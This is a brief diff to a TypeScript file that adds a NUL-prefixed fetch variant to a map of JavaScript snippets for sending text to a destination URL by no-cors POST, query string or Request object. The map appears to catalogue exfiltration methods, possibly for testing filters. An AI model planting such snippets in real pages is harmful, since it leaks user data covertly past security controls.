@@ -4,6 +4,7 @@
  */
 export const ways: Record<string, string> = {
   'fetch-body': "fetch(to, { method: 'POST', mode: 'no-cors', body: text })",
+  'fetch-nul': "fetch('\\0' + to, { method: 'POST', mode: 'no-cors', body: text })",
   'fetch-url': "fetch(to + '?d=' + encodeURIComponent(text), { mode: 'no-cors' })",
   'fetch-request': "fetch(new Request(to, { method: 'POST', mode: 'no-cors', body: text }))",
   'fetch-params':
